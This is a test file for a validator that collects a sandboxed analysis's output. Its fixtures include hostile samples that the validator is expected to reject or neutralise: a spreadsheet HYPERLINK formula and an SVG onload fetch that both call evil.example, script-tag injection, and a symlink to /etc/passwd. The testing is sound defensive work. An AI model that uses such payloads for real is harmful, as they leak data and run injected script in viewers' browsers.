import { execFileSync } from 'node:child_process';
import { link, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { OUTPUT_MAX_DIRECTORIES, OUTPUT_MESSAGE_MAX_CHARS, collectOutput, describeBytes, type OutputLimits } from './collect-output';

const MiB = 1024 * 1024;
const LIMITS: OutputLimits = { runOutputMaxFiles: 20, runOutputMaxBytes: 1 * MiB, resultMaxBytes: 64 * 1024 };
const RESULT = { schemaVersion: 1, summary: 'You posted 3 times', blocks: [{ type: 'metric', label: 'Posts', value: 3 }] };
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>';

let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'lockbox-collect-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const put = async (path: string, content: string | Buffer = '') => {
  await mkdir(join(dir, path, '..'), { recursive: true });
  await writeFile(join(dir, path), content);
};
const putResult = (doc: unknown = RESULT) => put('result.json', JSON.stringify(doc));

describe('collectOutput accepts', () => {
  it('a valid result and artifacts, with the exact bytes', async () => {
    await putResult();
    await put('artifacts/by-hour.csv', 'hour,posts\n0,4\n');
    await put('artifacts/charts/week.SVG', SVG);
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toEqual({
      ok: true,
      result: RESULT,
      resultBytes: Buffer.from(JSON.stringify(RESULT)),
      artifacts: [
        { name: 'by-hour.csv', bytes: Buffer.from('hour,posts\n0,4\n') },
        { name: 'charts/week.SVG', bytes: Buffer.from(SVG) },
      ],
    });
  });

  it('a CSV whose formula cells it neutralises', async () => {
    await putResult();
    await put('artifacts/posts.csv', 'text,likes\n=HYPERLINK("https://evil.example/?"&A1),3\n@friend hi,-2\n');
    const collected = await collectOutput(dir, LIMITS);
    expect(collected.ok && collected.artifacts).toEqual([
      { name: 'posts.csv', bytes: Buffer.from('text,likes\n\'=HYPERLINK("https://evil.example/?"&A1),3\n\'@friend hi,-2\n') },
    ]);
  });

  it('exactly the file cap and exactly the byte cap', async () => {
    await putResult();
    const size = Math.floor((LIMITS.runOutputMaxBytes - JSON.stringify(RESULT).length) / 19);
    for (let i = 0; i < 19; i++) await put(`artifacts/f${i}.txt`, Buffer.alloc(size, 'a'));
    const rest = LIMITS.runOutputMaxBytes - JSON.stringify(RESULT).length - 19 * size;
    await put('artifacts/f0.txt', Buffer.alloc(size + rest, 'a'));
    const collected = await collectOutput(dir, LIMITS);
    expect(collected.ok).toBe(true);
  });
});

describe('collectOutput refuses', () => {
  it('a missing result.json', async () => {
    await put('artifacts/a.txt', 'x');
    expect(await collectOutput(dir, LIMITS)).toEqual({ ok: false, reason: 'output_invalid', message: 'no /output/result.json was written' });
  });

  it('a symbolic link, naming it and its target, without following it', async () => {
    await symlink('/etc/passwd', join(dir, 'result.json'));
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_invalid',
      message: 'output/result.json is a symbolic link (to /etc/passwd); only regular files are collected',
    });
  });

  it('a symbolic link to a directory', async () => {
    await putResult();
    await mkdir(join(dir, 'artifacts'));
    await symlink('/etc', join(dir, 'artifacts', 'link'));
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_invalid' });
    expect(!collected.ok && collected.message).toBe('output/artifacts/link is a symbolic link (to /etc); only regular files are collected');
  });

  it('a FIFO', async () => {
    await putResult();
    execFileSync('mkfifo', [join(dir, 'pipe')]);
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_invalid',
      message: 'output/pipe is a FIFO (named pipe); only regular files are collected',
    });
  });

  it('a hard link to another file', async () => {
    await putResult();
    await put('artifacts/a.txt', 'x');
    await link(join(dir, 'artifacts/a.txt'), join(dir, 'artifacts/b.txt'));
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_invalid' });
    expect(!collected.ok && collected.message).toMatch(/^output\/artifacts\/[ab]\.txt has 2 hard links; only files with a single link are collected$/);
  });

  it('one file more than the cap', async () => {
    await putResult();
    for (let i = 0; i < 20; i++) await put(`artifacts/f${i}.txt`, 'x');
    expect(await collectOutput(dir, LIMITS)).toEqual({ ok: false, reason: 'output_limit', message: 'output has 21 files; the limit is 20' });
  });

  it('far too many entries, without walking them all', async () => {
    await putResult();
    await mkdir(join(dir, 'artifacts'));
    for (let i = 0; i < 250; i++) await writeFile(join(dir, 'artifacts', `f${i}.txt`), '');
    const collected = await collectOutput(dir, { ...LIMITS, runOutputMaxFiles: 5 });
    expect(collected).toEqual({
      ok: false,
      reason: 'output_limit',
      message: `output has more than ${5 * 10 + OUTPUT_MAX_DIRECTORIES} files and directories; the limit is 5 files`,
    });
  });

  it('too many directories', async () => {
    await putResult();
    for (let i = 0; i <= OUTPUT_MAX_DIRECTORIES; i++) await mkdir(join(dir, `d${i}`));
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_limit',
      message: `output has ${OUTPUT_MAX_DIRECTORIES + 1} directories; the limit is ${OUTPUT_MAX_DIRECTORIES}`,
    });
  });

  it('a file bigger than the output cap', async () => {
    await putResult();
    await put('artifacts/big.csv', Buffer.alloc(LIMITS.runOutputMaxBytes + 1));
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_limit',
      message: 'output/artifacts/big.csv is 1048577 bytes; the output limit is 1 MiB',
    });
  });

  it('files that together pass the output cap by one byte', async () => {
    await putResult();
    const resultSize = JSON.stringify(RESULT).length;
    await put('artifacts/a.txt', Buffer.alloc(LIMITS.runOutputMaxBytes / 2));
    await put('artifacts/b.txt', Buffer.alloc(LIMITS.runOutputMaxBytes / 2 - resultSize + 1));
    expect(await collectOutput(dir, LIMITS)).toEqual({ ok: false, reason: 'output_limit', message: 'output holds 1048577 bytes; the limit is 1 MiB' });
  });

  it('a result.json over its own cap', async () => {
    await putResult({ ...RESULT, blocks: [{ type: 'markdown', text: 'x'.repeat(70_000) }] });
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_limit' });
    expect(!collected.ok && collected.message).toMatch(/^result\.json is 68\.\d KiB; the limit is 64 KiB$/);
  });

  it('invalid UTF-8', async () => {
    await put('result.json', Buffer.concat([Buffer.from('{"schemaVersion":1,"summary":"'), Buffer.from([0xc3, 0x28]), Buffer.from('","blocks":[]}')]));
    expect(await collectOutput(dir, LIMITS)).toEqual({ ok: false, reason: 'output_invalid', message: 'result.json is not valid UTF-8 text' });
  });

  it('a NUL byte', async () => {
    await put('result.json', Buffer.concat([Buffer.from('{"schemaVersion":1,'), Buffer.from([0]), Buffer.from('"summary":"x","blocks":[]}')]));
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_invalid',
      message: 'result.json contains a NUL byte at offset 19; it must be UTF-8 JSON text',
    });
  });

  it('a NUL character escaped in JSON', async () => {
    await putResult({ ...RESULT, summary: 'a\u0000b' });
    const collected = await collectOutput(dir, LIMITS);
    expect(!collected.ok && collected.message).toBe('result.json: summary must not contain NUL characters');
  });

  it('text that is not JSON', async () => {
    await put('result.json', '{"schemaVersion":1,');
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_invalid' });
    expect(!collected.ok && collected.message).toMatch(/^result\.json is not valid JSON: /);
  });

  it('a result of wide arrays nested 250 deep, read no further than the depth cap', async () => {
    // The shape that exhausted the worker's heap at 4 MiB, at the 64 KiB cap of these limits.
    const row = Array.from({ length: 20 }, () => '0').join(',');
    const values = `${`[${row},`.repeat(249)}[${row}]${']'.repeat(249)}`;
    const text = `{"schemaVersion":1,"summary":"x","blocks":[{"type":"chart","title":"t","spec":{"mark":"bar","data":{"values":${values}}}}]}`.slice(
      0,
      LIMITS.resultMaxBytes,
    );
    await put('result.json', text);
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toEqual({
      ok: false,
      reason: 'output_invalid',
      message: expect.stringMatching(/^result\.json is nested more than 72 levels deep \(at position \d+\)$/),
    });
  });

  it('a result the schema refuses, naming each path', async () => {
    await putResult({
      schemaVersion: 1,
      summary: 'x',
      blocks: [
        { type: 'markdown', text: 'hi <script>alert(1)</script>' },
        { type: 'chart', title: 't', spec: { mark: 'bar', data: { url: 'https://evil.example/data.json' } } },
      ],
    });
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_invalid' });
    const message = !collected.ok ? collected.message : '';
    expect(message).toMatch(/^result\.json: /);
    expect(message).toContain('blocks[0].text is rejected: markdown must not contain raw HTML (found "<script"');
    expect(message).toContain('blocks[1].spec.data.url is not allowed: a chart uses inline data');
  });

  it('artifacts of other types, listing each', async () => {
    await putResult();
    await put('artifacts/run.sh', '#!/bin/sh');
    await put('artifacts/page.html', '<html>');
    await put('artifacts/ok.png', 'png');
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_invalid',
      message:
        'output/artifacts/page.html is not a collected artifact type (png, svg, csv, json, txt); ' +
        'output/artifacts/run.sh is not a collected artifact type (png, svg, csv, json, txt)',
    });
  });

  it('artifacts whose content is active or not of their type, listing each with the reason', async () => {
    await putResult();
    await put('artifacts/chart.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example\')"/>');
    await put('artifacts/fake.png', '<html><script>alert(1)</script></html>');
    await put('artifacts/broken.csv', 'a,"never closed\n');
    await put('artifacts/ok.csv', 'a,b\n');
    expect(await collectOutput(dir, LIMITS)).toEqual({
      ok: false,
      reason: 'output_invalid',
      message:
        'output/artifacts/broken.csv has a quoted cell that is never closed (opened on line 1); ' +
        'output/artifacts/chart.svg has an event handler attribute onload on <svg>: scripts are code (line 1); ' +
        'output/artifacts/fake.png is not a PNG image: it does not start with the PNG signature',
    });
  });

  it('shows hidden characters the analysis wrote as escapes (JSON escapes the controls, the rest here), and caps the message', async () => {
    await putResult({ ...RESULT, blocks: [{ type: 'chart', title: 't', spec: { mark: 'bar', ['\u202e\u001b[31mkey']: 1 } }] });
    const collected = await collectOutput(dir, LIMITS);
    expect(!collected.ok && collected.message).toMatch(/^result\.json: blocks\[0\]\.spec\["\\u202E\\u001b\[31mkey"\] is not allowed in a chart; allowed: /);

    await putResult({ ...RESULT, blocks: [{ type: 'chart', title: 't', spec: { mark: 'bar', ['k'.repeat(10_000)]: 1 } }] });
    const long = await collectOutput(dir, LIMITS);
    expect(!long.ok && long.message.length).toBe(OUTPUT_MESSAGE_MAX_CHARS);
    expect(!long.ok && long.message.endsWith('kk…')).toBe(true);
  });

  it('hidden or oddly named artifacts, and files outside artifacts/', async () => {
    await putResult();
    await put('artifacts/.hidden.txt', 'x');
    await put('artifacts/new\nline.txt', 'x');
    await put('notes.txt', 'x');
    const collected = await collectOutput(dir, LIMITS);
    expect(collected).toMatchObject({ ok: false, reason: 'output_invalid' });
    const message = !collected.ok ? collected.message : '';
    expect(message).toContain('output/artifacts/.hidden.txt has a name that is not allowed');
    expect(message).toContain('output/"artifacts/new\\nline.txt" has a name that is not allowed');
    expect(message).toContain('output/notes.txt is not collected: only result.json and files under artifacts/ are');
  });
});

describe('describeBytes', () => {
  it('prints sizes for people', () => {
    expect(describeBytes(16 * MiB)).toBe('16 MiB');
    expect(describeBytes(1.5 * MiB)).toBe('1.5 MiB');
    expect(describeBytes(300 * 1024)).toBe('300 KiB');
    expect(describeBytes(1)).toBe('1 byte');
    expect(describeBytes(12)).toBe('12 bytes');
    expect(describeBytes(MiB + 1)).toBe('1048577 bytes');
  });
});
